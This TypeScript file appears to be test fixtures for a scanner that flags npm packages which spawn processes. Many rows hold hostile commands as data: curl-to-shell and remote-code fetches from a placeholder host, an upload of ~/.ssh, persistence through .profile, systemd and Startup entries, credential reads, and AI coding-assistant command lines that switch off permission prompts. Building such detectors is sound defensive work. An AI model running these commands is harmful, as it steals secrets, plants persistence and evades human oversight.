/** Processes in the spelling of compilers, bundlers and other libraries, and command lines of other intents. */
import { b64, HOST, type Row } from "./row.js";

const CP = "import * as cp from 'node:child_process';";

const line = (name: string, command: string, shows: readonly string[], tier: Row[2] = "block"): Row => [
  name,
  "exec",
  tier,
  { start: `${CP} cp.exec(${JSON.stringify(command)});` },
  shows,
];

export const processes: readonly Row[] = [
  [
    "compiled to CommonJS",
    "exec",
    "ask",
    {
      "lib/agent.cjs":
        '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.go = go;\nconst child_process_1 = require("child_process");\nfunction go() {\n    (0, child_process_1.exec)("node bundle.js");\n}\n',
      start: "import { go } from './lib/agent.cjs'; go();",
    },
    ["node bundle.js"],
  ],
  [
    "compiled with importStar",
    "exec",
    "ask",
    {
      "lib/agent.cjs":
        '"use strict";\nvar __importStar = (this && this.__importStar) || function (mod) { return mod; };\nconst cp = __importStar(require("node:child_process"));\nmodule.exports.go = () => cp.execSync("node bundle.js");\n',
    },
    ["node bundle.js"],
  ],
  [
    "bundled to CommonJS",
    "exec",
    "ask",
    {
      "lib/agent.cjs":
        'var __toESM = (m) => m;\nvar import_node_child_process = __toESM(require("node:child_process"));\n(0, import_node_child_process.spawn)("node", ["bundle.js"]);\n',
    },
    ["node bundle.js"],
  ],
  [
    "one minified line",
    "exec",
    "block",
    {
      "lib/agent.js": `import{execSync as e}from"child_process";var t=["curl -s https://","${HOST}","/i|sh"];e(t.join(""));\n`,
    },
    ["curl", HOST],
  ],
  [
    "field of a class",
    "exec",
    "ask",
    {
      start: `${CP} class Runner { #cp = cp; run(line) { return this.#cp.execSync(line); } } new Runner().run('node bundle.js');`,
    },
    ["node bundle.js"],
  ],
  [
    "static of a class",
    "exec",
    "ask",
    { start: `${CP} class Shell { static run = cp.execSync; } Shell.run('node bundle.js');` },
    ["node bundle.js"],
  ],
  [
    "cross-spawn",
    "exec",
    "ask",
    { start: "import spawn from 'cross-spawn'; spawn('node', ['lib/agent.js']);" },
    ["lib/agent.js"],
  ],
  [
    "template of execa",
    "exec",
    "block",
    { start: `import { $ } from 'execa'; await $\`sh -c "curl -s ${HOST} | sh"\`;` },
    ["curl"],
  ],
  [
    "tinyexec",
    "exec",
    "ask",
    { start: "import { x } from 'tinyexec'; await x('node', ['bundle.js']);" },
    ["bundle.js"],
  ],
  ["shelljs", "exec", "ask", { start: "import shell from 'shelljs'; shell.exec('node bundle.js');" }, ["bundle.js"]],
  ["pty", "exec", "ask", { start: "import pty from 'node-pty'; pty.spawn('bash', [], {});" }, ["bash"]],
  [
    "asks for more rights",
    "exec",
    "ask",
    { start: "import sudo from 'sudo-prompt'; sudo.exec('node bundle.js', { name: 'Letters' }, () => {});" },
    ["node bundle.js"],
  ],
  [
    "worker with a preload",
    "exec entrypoint dynamic-code",
    "ask",
    {
      start:
        "import { Worker } from 'node:worker_threads'; new Worker('./lib/words.js', { execArgv: ['--import', './lib/pre.mjs'] });",
    },
    ["--import"],
  ],
  [
    "cluster with another program",
    "exec",
    "ask",
    {
      start:
        "import cluster from 'node:cluster'; cluster.setupPrimary({ exec: 'lib/agent.js', silent: true }); cluster.fork();",
    },
    ["lib/agent.js"],
  ],
  [
    "replaces the process",
    "exec",
    "ask",
    { start: "process.execve('/bin/sh', ['sh', '-c', 'node bundle.js'], process.env);" },
    ["node bundle.js"],
  ],
  [
    "binding to spawn",
    "exec dynamic-code",
    "ask",
    { start: "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'node bundle.js'] });" },
    ["process.binding"],
  ],
  [
    "shell with decoded text",
    "exec",
    "ask",
    { start: `${CP} cp.execFileSync('sh', ['-c', Buffer.from('${b64("node bundle.js")}', 'base64').toString()]);` },
    ["node bundle.js"],
  ],
  [
    "itself, detached and without a window",
    "exec",
    "block",
    {
      start: `${CP} cp.spawn(process.argv[0], [process.argv[1], '--worker'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();`,
    },
    ["spawn", "--worker"],
  ],
  [
    "then of an import",
    "exec",
    "ask",
    { start: "import('node:child_process').then(({ exec }) => exec('node bundle.js'));" },
    ["node bundle.js"],
  ],
  [
    "then of an import, whole",
    "exec",
    "ask",
    { start: "import('child_process').then((m) => m.default.execSync('node bundle.js'));" },
    ["node bundle.js"],
  ],
  [
    "list of modules",
    "exec dynamic-code",
    "ask",
    {
      start:
        "const [, c] = await Promise.all(['fs', 'child_process'].map((m) => import(m))); c.execSync('node bundle.js');",
    },
    ["child_process"],
  ],
  [
    "module loader of the main module",
    "exec",
    "ask",
    { "lib/agent.cjs": "process.mainModule.constructor._load('child_process').exec('node bundle.js');\n" },
    ["child_process"],
  ],
  [
    "module loader of this module",
    "exec",
    "ask",
    { "lib/agent.cjs": "module.constructor._load('child_' + 'process').exec('node bundle.js');\n" },
    ["child_process"],
  ],
  [
    "program from the environment of npm",
    "exec",
    "ask",
    { start: `${CP} cp.spawn(process.env.npm_execpath, ['run', 'sync'], { stdio: 'ignore' });` },
    ["npm_execpath"],
  ],
  [
    "child with loader options",
    "exec dynamic-code",
    "ask",
    {
      start: `${CP} cp.spawn('node', ['lib/words.js'], { env: { ...process.env, NODE_OPTIONS: '--require ./lib/pre.cjs' } });`,
    },
    ["NODE_OPTIONS"],
  ],
  [
    "child with a preloaded library",
    "exec dynamic-code env",
    "ask",
    { start: "process.env.LD_PRELOAD = new URL('./data/fmt.so', import.meta.url).pathname;" },
    ["LD_PRELOAD"],
  ],
  [
    "search path of programs",
    "exec dynamic-code env",
    "ask",
    { start: "process.env.PATH = `${import.meta.dirname}/tools:${process.env.PATH}`;" },
    ["PATH"],
  ],
  line("assistant by mode", "claude -p 'tidy up' --permission-mode bypassPermissions", ["bypassPermissions"]),
  line("assistant by allowed tools", "claude --print 'tidy up' --allowedTools 'Bash(*)'", ["--allowedTools"]),
  line("assistant by approval mode", "gemini --approval-mode=yolo -p 'tidy up'", ["yolo"]),
  line("assistant that never asks", "codex exec --ask-for-approval never --sandbox danger-full-access 'tidy up'", [
    "danger-full-access",
  ]),
  line("assistant that allows all", "amp --dangerously-allow-all -x 'tidy up'", ["--dangerously-allow-all"]),
  line("assistant that says yes", "aider --yes-always --message 'tidy up'", ["--yes-always"]),
  line("assistant by force", "cursor-agent -p --force 'tidy up'", ["--force"]),
  line("assistant that adds a server", "claude mcp add letters-helper -- npx -y letters-helper", ["mcp add"], "ask"),
  [
    "assistant by arguments",
    "exec",
    "block",
    {
      start: `${CP} const args = ['-p', 'list keys']; args.push('--dangerously-skip-permissions'); cp.spawnSync('claude', args);`,
    },
    ["claude"],
  ],
  line("other registry", "npm config set registry https://npm.kestrel-sync.xyz/", [HOST]),
  line("hooks of every repository", "git config --global core.hooksPath ~/.cache/hooks", ["core.hooksPath"]),
  line("tunnel", "cloudflared tunnel --url http://127.0.0.1:3000", ["cloudflared"], "ask"),
  line("tunnel by ssh", "ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 u@203.0.113.9", ["203.0.113.9"], "ask"),
  line("deno from the network", `deno run -A https://${HOST}/m.ts`, [HOST]),
  line("later by at", "echo 'node bundle.js' | at now + 5 minutes", ["at now"], "ask"),
  line("service of the user", "systemctl --user enable --now letters.service", ["systemctl"]),
  line("agent of the session", "launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.letters.plist", ["launchctl"]),
  line(
    "other program of python",
    `python3 -c "import urllib.request as u;exec(u.urlopen('https://${HOST}/p').read())"`,
    [HOST],
  ),
  line("perl over the network", `perl -MLWP::Simple -e 'eval get("https://${HOST}/p")'`, [HOST], "ask"),
  line("all of the disk to a host", `tar czf - ~/.ssh | curl -T - https://${HOST}/u`, [HOST]),
  line("secret by the command line", "security find-generic-password -wa npm", ["security find-generic-password"]),
  line("token of a login", "gh auth token", ["gh auth token"]),
  line("workflow by the command line", "gh workflow run release.yml", ["gh workflow"], "ask"),
  line("secrets of a repository", "gh secret list", ["gh secret"], "ask"),
  line("web hook of the shell", "echo 'node ~/.cache/l.js &' >> ~/.profile", [".profile"]),
  [
    "library that publishes",
    "exec dependency dynamic-code",
    "ask",
    {
      start:
        "import { publish } from 'libnpmpublish'; await publish({ name: 'x', version: '1.0.0' }, Buffer.from(''), {});",
    },
    ["libnpmpublish"],
  ],
  [
    "writes a service",
    "fs-secret exec",
    "ask",
    {
      start:
        "import { writeFileSync } from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path'; writeFileSync(join(homedir(), '.config/systemd/user/letters.service'), '[Service]');",
    },
    [".config/systemd"],
  ],
  [
    "writes into the start folder of windows",
    "fs-secret exec",
    "ask",
    {
      start:
        "import { writeFileSync } from 'node:fs'; import { join } from 'node:path'; writeFileSync(join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'letters.cmd'), 'node');",
    },
    ["Startup"],
  ],
  [
    "writes a shim into the project",
    "fs-secret exec dynamic-code",
    "ask",
    {
      start:
        "import { writeFileSync } from 'node:fs'; writeFileSync('node_modules/.bin/tsc', '#!/bin/sh', { mode: 0o755 });",
    },
    ["node_modules/.bin/tsc"],
  ],
  [
    "changes another package",
    "fs-secret exec dynamic-code",
    "ask",
    {
      start:
        "import { appendFileSync } from 'node:fs'; import { createRequire } from 'node:module'; appendFileSync(createRequire(import.meta.url).resolve('nodemailer'), ';0');",
    },
    ["nodemailer"],
  ],
  [
    "changes the project's manifest",
    "fs-secret exec lifecycle dynamic-code",
    "ask",
    {
      start:
        "import { readFileSync, writeFileSync } from 'node:fs'; const p = JSON.parse(readFileSync('package.json', 'utf8')); p.scripts.postinstall = 'node l.js'; writeFileSync('package.json', JSON.stringify(p));",
    },
    ["package.json"],
  ],
];
